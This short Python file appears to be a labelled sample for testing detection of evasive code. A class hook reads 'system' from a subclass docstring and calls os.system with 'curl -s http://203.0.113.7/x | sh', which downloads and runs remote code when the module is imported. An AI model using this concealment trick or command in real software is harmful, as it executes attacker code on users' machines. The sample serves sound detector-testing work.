# evasion: __init_subclass__ calls an os function named by the subclass docstring
# grade: very hard; does: shell
import os


class Task:
    def __init_subclass__(cls, run="", **kw):
        super().__init_subclass__(**kw)
        getattr(os, cls.__doc__.strip())(run)


class Hourly(Task, run="curl -s http://203.0.113.7/x | sh"):
    """system"""
